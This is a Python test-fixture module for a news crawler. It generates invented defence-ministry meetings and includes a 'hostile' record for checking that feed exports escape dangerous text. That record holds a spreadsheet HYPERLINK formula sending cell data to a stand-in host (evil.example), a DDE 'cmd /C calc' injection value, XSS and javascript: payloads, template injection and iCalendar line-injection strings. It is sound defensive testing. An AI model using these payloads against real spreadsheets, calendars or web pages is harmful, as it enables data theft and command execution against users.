"""Meetings of invented people for the tests of the feeds, as many as are wanted, in all forms a record can take."""

from __future__ import annotations

import dataclasses
import datetime as dt
import hashlib
from collections.abc import Iterator
from typing import Any

from crawler.items import (
    LANGS,
    Agreement,
    EventCode,
    HeadlineVariant,
    Lang,
    Meeting,
    MergeEvidence,
    NameVariant,
    Participant,
    Place,
    Source,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open") </script><img src=x onerror=alert(1)> **bold** [a](b) & {{7*7}}'
)
"""A headline that a careless format would run: formula, script, Markdown, template."""

PEOPLE: tuple[tuple[str, str, str, str | None, str | None, str], ...] = (
    ("Elman Guliyev", "Elman Quliyev", "Эльман Гулиев", "Minister of Defence", "Colonel General", "AZ"),
    ("Rauf Samadov", "Rauf Səmədov", "Рауф Самедов", "Chief of the General Staff", "Lieutenant General", "AZ"),
    ("Marek Dubrovski", "Marek Dubrovski", "Марек Дубровски", "Minister of Defence", None, "PL"),
    ("Janis Kalninsh", "Yanis Kalninş", "Янис Калниньш", "Minister of Defence", None, "LV"),
    ("Omer Yilmazer", "Ömər Yılmazər", "Омер Йылмазер", None, "General", "TR"),
    ("Ann-Marie O'Dowd", "Enn-Mari O'Daud", "Энн-Мари О'Дауд", "Special Representative", None, "NATO"),
)
HEADLINES: dict[Lang, str] = {
    "en": "Minister of Defence receives the guest from country {n}",
    "az": "Müdafiə naziri {n} nömrəli qonağı qəbul edib: “İşğal” və ığid",
    "ru": "Министр обороны принял гостя № {n}",
}
_KINDS = ("bilateral", "multilateral", "internal", "call", "visit", "signing")
_CAMEO = {"bilateral": "040", "multilateral": "040", "internal": "040", "call": "041", "visit": "042", "signing": "057"}
_START = dt.date(2025, 1, 1)


def identity(text: str) -> str:
    """Return an id of the feed's form."""
    return "m" + hashlib.sha256(text.encode()).hexdigest()[:20]


def participant(number: int, part: str = "participant", **values: Any) -> Participant:
    """Return one of PEOPLE."""
    en, az, ru, post, rank, country = PEOPLE[number % len(PEOPLE)]
    whole: dict[str, Any] = {
        "name": en,
        "variants": tuple(NameVariant(lang=lang, text=text) for lang, text in zip(LANGS, (en, az, ru), strict=True)),
        "post": post,
        "rank": rank,
        "country": country,
        "part": part,
        "leads_delegation": part == "guest",
    }
    return Participant(**{**whole, **values})


def source(number: int, lang: Lang = "en", **values: Any) -> Source:
    """Return an article of the meeting of this number."""
    published = f"{_START + dt.timedelta(days=number % 600)}T08:{number % 60:02}:00+00:00"
    whole: dict[str, Any] = {
        "url": f"https://news.example/{lang}/{number}",
        "outlet": "news.example",
        "lang": lang,
        "headline": HEADLINES[lang].format(n=number),
        "published": published,
        "modified": None,
        "attribution": "Ministry of Defence" if number % 2 else None,
        "relation": "original" if lang == "en" else "translation",
    }
    return Source(**{**whole, **values})


def meeting(number: int = 0, **values: Any) -> Meeting:
    """Return the meeting of a number, some of its values replaced; every third has its month only, every 11th no date."""
    day = _START + dt.timedelta(days=number % 600)
    langs: tuple[Lang, ...] = LANGS[: 1 + number % 3]
    kind = _KINDS[number % len(_KINDS)]
    date = None if number % 11 == 10 else f"{day:%Y-%m}" if number % 7 == 6 else day.isoformat()
    people = (
        participant(number % 2, "host" if number % 3 else "participant"),
        participant(2 + number % 4, "guest" if number % 3 else "participant"),
    )
    countries = {person.country for person in people if person.country and len(person.country) == 2}
    changed = dt.datetime(2026, 1, 1, tzinfo=dt.UTC) + dt.timedelta(seconds=number)
    whole: dict[str, Any] = {
        "schema_version": 1,
        "id": identity(f"meeting {number}"),
        "merged_ids": tuple(identity(f"meeting {number}, {lang}") for lang in langs[1:]),
        "revision": 1 + number % 4,
        "status": ("held", "held", "announced", "held", "cancelled")[number % 5],
        "kind": kind,
        "event_code": EventCode(cameo=_CAMEO[kind], plover="CONSULT", mode="phone" if kind == "call" else None),
        "date": date,
        "date_precision": None if date is None else "month" if len(date) == 7 else "day",
        "date_source": None if date is None else "stated",
        "headline": HEADLINES["en"].format(n=number),
        "headlines": {lang: HEADLINES[lang].format(n=number) if lang in langs else None for lang in LANGS},
        "headline_variants": tuple(
            HeadlineVariant(
                lang=lang,
                text=HEADLINES[lang].format(n=number),
                raw=HEADLINES[lang].format(n=number).upper(),
                outlet="news.example",
                url=None if lang == "ru" else f"https://news.example/{lang}/{number}",
            )
            for lang in langs
        ),
        "lead": {lang: f"{HEADLINES[lang].format(n=number)}." if lang in langs else None for lang in LANGS},
        "place": None if number % 4 == 3 else Place(city="Baku" if number % 4 else None, country="AZ"),
        "countries": tuple(sorted(countries)),
        "organizations": ("NATO",) if any(person.country == "NATO" for person in people) else (),
        "participants": () if number % 13 == 12 else people,
        "topics": ("military_cooperation", "training") if number % 2 else (),
        "agreements": (Agreement(kind="plan", title=f"Cooperation plan {number}", year=2026 if number % 4 else None),)
        if kind == "signing"
        else (),
        "sources": tuple(source(number, lang) for lang in langs),
        "merge_evidence": tuple(
            MergeEvidence(url=f"https://news.example/{lang}/{number}", rule="alternate", detail="") for lang in langs
        ),
        "first_seen": "2026-01-01T00:00:00+00:00",
        "last_changed": changed.isoformat(),
    }
    return Meeting(**{**whole, **values})


def meetings(count: int) -> Iterator[Meeting]:
    """Yield meetings as the store does: by day, those without a date last."""
    yield from sorted(map(meeting, range(count)), key=lambda one: (one.date or "~", one.id))


def hostile() -> Meeting:
    """Return a meeting whose every text attacks."""
    person = participant(0, name="@SUM(1+1)*cmd|' /C calc'!A0", post="<b>Minister</b>", rank=None)
    return meeting(
        1_000_000,
        headline=HOSTILE,
        headlines=dict.fromkeys(LANGS, HOSTILE),
        headline_variants=(
            HeadlineVariant(lang="en", text=HOSTILE, raw=f"{HOSTILE}\n\t\x00\x0b]]>", outlet="-1+1", url=None),
        ),
        lead={"en": "+1 first\r\nSecond line\x00 of it;=1+1 END:VEVENT\r\nBEGIN:VALARM", "az": None, "ru": None},
        place=Place(city="-2+3\x0c", country=None),
        participants=(person,),
        agreements=(Agreement(kind="plan", title="=1+1", year=None),),
        sources=(
            source(100, headline=HOSTILE, attribution="javascript:alert(1)"),
            source(101, url=f"urn:sha256:{'0' * 64}", published=None),
            source(102, url='https://news.example/"><script>alert(2)</script>', published="2026-02"),
        ),
    )


def revised(old: Meeting, **values: Any) -> Meeting:
    """Return the next revision of a meeting, changed a day later."""
    later = dt.datetime.fromisoformat(old.last_changed) + dt.timedelta(days=1)
    return dataclasses.replace(old, revision=old.revision + 1, last_changed=later.isoformat(), **values)
